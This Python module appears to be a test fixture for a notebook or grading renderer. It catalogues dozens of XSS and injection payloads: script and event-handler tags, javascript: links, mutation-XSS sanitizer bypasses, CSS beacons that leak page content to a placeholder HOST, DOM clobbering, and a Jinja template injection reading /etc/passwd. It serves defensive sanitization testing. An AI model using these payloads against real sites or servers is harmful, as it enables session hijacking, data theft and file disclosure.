"""Active fragments that a learner may plant, by where they stand. In each, NAME is its own name and HOST a listener.

`HIT` is what a script does when it runs; other fragments ask the listener for something, or send the reader away.
"""

import base64
from dataclasses import dataclass

HIT = (
    "document.title='NAME';localStorage.setItem('NAME','1');window.planted=1;new Image().src='http://HOST/NAME/script';"
)
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{HIT}\"><circle r='9'/></svg>"
HTML = f'<script>{HIT}</script><img src=x onerror="{HIT}">'


@dataclass(frozen=True)
class Payload:
    """One fragment. `place` is a kind of cell, output, name or comment; see `plant` in conftest."""

    name: str
    place: str
    content: str

    def at(self, host: str) -> str:
        """The fragment that reports to `host`."""
        return self.content.replace("HOST", host).replace("NAME", self.name)


def data_url(kind: str, content: str) -> str:
    return f"data:{kind};base64,{base64.b64encode(content.encode()).decode()}"


def _all() -> list[Payload]:
    in_html = {
        "script": f"<script>{HIT}</script>",
        "script-src": "<script src='http://HOST/NAME/js'></script>",
        "script-nested": f"<scr<script>ipt>{HIT}</scr</script>ipt><script>{HIT}</script>",
        "script-svg": f"<svg><script>{HIT}</script></svg>",
        "img-onerror": f'<img src=x onerror="{HIT}">',
        "img-remote": "<img src='http://HOST/NAME/img'>",
        "img-srcset": "<img srcset='http://HOST/NAME/srcset 1x'>",
        "img-newline": f'<img\n\tsrc=x\nonerror\n=\n"{HIT}">',
        "img-slash": f'<img/src=x/onerror="{HIT}">',
        "svg-onload": SVG,
        "svg-use": f'<svg><use href="{data_url("image/svg+xml", SVG)}#x"/></svg>',
        "svg-image": "<svg><image href='http://HOST/NAME/svgimage' width='9' height='9'/></svg>",
        "svg-foreign": f"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload=\"{HIT}\">"
        f'<img src=x onerror="{HIT}"></body></foreignObject></svg>',
        "svg-animate": "<svg><a><animate attributeName=href values='javascript:alert(1)'/><text>x</text></a></svg>",
        "iframe-src": "<iframe src='http://HOST/NAME/frame'></iframe>",
        "iframe-srcdoc": f'<iframe srcdoc="<script>parent.{HIT.replace("localStorage", "parent.localStorage")}'
        '</script>"></iframe>',
        "object": "<object data='http://HOST/NAME/object'></object>",
        "embed": "<embed src='http://HOST/NAME/embed'>",
        "meta-refresh": "<meta http-equiv=refresh content='1;url=http://HOST/NAME/refresh'>",
        "base": "<base href='http://HOST/NAME/'><img src='base.png'>",
        "form": "<form action='http://HOST/NAME/form'><input name=a autofocus><button>Full marks</button></form>",
        "formaction": "<button formaction='javascript:alert(1)' form=x>go</button>",
        "style-url": "<style>body{background:url(http://HOST/NAME/style)}</style>",
        "style-import": "<style>@import 'http://HOST/NAME/import';</style>",
        "style-attribute": "<p style=\"background-image:url('http://HOST/NAME/attr');position:fixed;inset:0\">x</p>",
        "style-exfil": "<style>.score strong{background:url(http://HOST/NAME/points)}"
        "h1,h4{background:url(http://HOST/NAME/heading)}</style>",
        "link-stylesheet": "<link rel=stylesheet href='http://HOST/NAME/css'>",
        "link-prefetch": "<link rel=preload as=image href='http://HOST/NAME/preload'>",
        "video": f"<video poster='http://HOST/NAME/poster'><source src=x onerror=\"{HIT}\"></video>",
        "audio": f"<audio src='http://HOST/NAME/audio' onerror=\"{HIT}\" controls></audio>",
        "details-ontoggle": f'<details open ontoggle="{HIT}"><summary>x</summary>y</details>',
        "body-onload": f"<body onload=\"{HIT}\" background='http://HOST/NAME/background'>",
        "input-onfocus": f'<input autofocus onfocus="{HIT}">',
        "table-background": "<table background='http://HOST/NAME/table'><tr><td>x</table>",
        "href-javascript": f'<a href="javascript:{HIT}">plot</a>',
        "href-entities": '<a href="&#106;avascript&colon;alert(1)">plot</a><a href="java\tscript:alert(1)">plot</a>',
        "href-data": f'<a href="{data_url("text/html", HTML)}">plot</a>',
        "href-ping": "<a href='https://example.org' ping='http://HOST/NAME/ping' target=_top>plot</a>",
        "mathml": "<math><maction actiontype='statusline#' xlink:href='javascript:alert(1)'>x</maction></math>",
        "mutation-noscript": f"<noscript><p title=\"</noscript><img src=x onerror='{HIT}'>\"></noscript>",
        "mutation-math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x '
        'onerror=window.planted=1&gt;"></table></mtext></math>',
        "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.planted=1>",
        "mutation-svg": '<svg></p><style><a id="</style><img src=x onerror=window.planted=1>"></svg>',
        "mutation-template": f'<template><img src=x onerror="{HIT}"></template>'
        f'<xmp><p></xmp><img src=x onerror="{HIT}">',
        "comment-end": f'<!--><img src=x onerror="{HIT}">--> <!--[if gte IE 4]><script>{HIT}</script><![endif]-->',
        "cdata": f'<![CDATA[><img src=x onerror="{HIT}">]]>',
        "clobbering": "<a id=top name=tasks class=badge>x</a>"
        "<form id=body name=getElementById><input name=attributes></form>"
        "<img name=title id=task-1>",
        "closing": f"</pre></div></article></main></body></html><script>{HIT}</script>",
        "plaintext": "<b>before</b><plaintext>",
        "null-byte": f'<scr\x00ipt>{HIT}</scr\x00ipt><img src=x one\x00rror="{HIT}">',
        "template-jinja": "{{ cycler.__init__.__globals__ }}{% include '/etc/passwd' %}{{ 7*191 }}",
    }
    payloads = [Payload(f"html-{name}", "html", content) for name, content in in_html.items()]
    payloads += [Payload(f"text-{name}", "own_text", content) for name, content in in_html.items()]
    for name in ("script", "img-onerror", "svg-onload", "style-url", "href-javascript", "closing", "template-jinja"):
        payloads += [
            Payload(f"{place}-{name}".replace("_", "-"), place, in_html[name])
            for place in (
                *("answer", "markdown_output", "comment", "student", "person", "remark", "message", "stream", "error"),
                *("plain", "latex", "code", "own_code", "raw", "json", "alt", "attachment_name", "unit_metadata"),
            )
        ]
    return [
        *payloads,
        Payload("markdown-link", "own_text", f"[plot](javascript:{HIT.replace(' ', '%20')}) [x]: vbscript:a"),
        Payload("markdown-image", "own_text", "![plot](http://HOST/NAME/markdown)"),
        Payload("markdown-quote", "own_text", f"![plot](x\" onerror=\"{HIT} 'a')"),
        Payload("markdown-autolink", "own_text", '<javascript:alert(1)> <http://HOST/NAME/"onmouseover=alert(1)>'),
        Payload("markdown-fence", "own_text", f"```<script>{HIT}</script>\n</code></pre><script>{HIT}</script>\n```"),
        Payload("math-dollars", "own_text", f'$<script>{HIT}</script>$ and $$</code><img src=x onerror="{HIT}">$$'),
        Payload("math-href", "latex", f"$\\href{{javascript:{HIT}}}{{x}}$ \\unicode{{<img src=x>}}"),
        Payload("svg-output", "svg", SVG),
        Payload("svg-as-png", "png", SVG),
        Payload("html-as-png", "png", HTML),
        Payload("png-broken-out", "png", f'"><script>{HIT}</script>'),
        Payload("javascript-output", "javascript", HIT),
        Payload("widget-view", "widget", f'"><script>{HIT}</script>'),
        Payload("vendor-output", "vendor", HTML),
        Payload("attachment-html", "attachment", HTML),
        Payload("attachment-svg", "attachment", SVG),
        Payload(
            "osc-8-link",
            "stream",
            "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07 \x1b]0;title\x07\x1b[2J\x1b[31mred",
        ),
        Payload("ansi-breakout", "error", f'\x1b[38;2;1;1;1";}}</style><script>{HIT}</script>m'),
        Payload("bidirectional", "code", "access = 'user\u202e \u2066# admin\u2069 \u2066'"),
        Payload("cell-id", "cell_id", f'"><script>{HIT}</script>'),
        Payload("cell-metadata", "cell_metadata", f"</script><script>{HIT}</script>"),
        Payload("language", "language", f'"><script>{HIT}</script>'),
        Payload("grade-id", "grade_id", f'"><script>{HIT}</script>'),
        Payload("output-name", "stream_name", f'"><script>{HIT}</script>'),
    ]


PAYLOADS = _all()
